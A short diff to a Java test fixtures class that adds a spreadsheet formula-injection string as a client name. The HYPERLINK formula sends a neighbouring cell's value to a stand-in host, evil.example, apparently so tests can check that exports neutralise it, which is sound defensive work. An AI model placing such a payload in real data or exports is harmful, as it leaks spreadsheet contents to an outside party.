@@ -62,6 +62,9 @@ public class Fixtures {
         }
     }
 
+    /** A client name that a spreadsheet would run as a formula, sending the cell next to it to another site. */
+    public static final String FORMULA_CLIENT_NAME = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Soylent\")";
+
     public static String unique(String prefix) {
         return prefix + "-" + UUID.randomUUID().toString().substring(0, 8);
     }
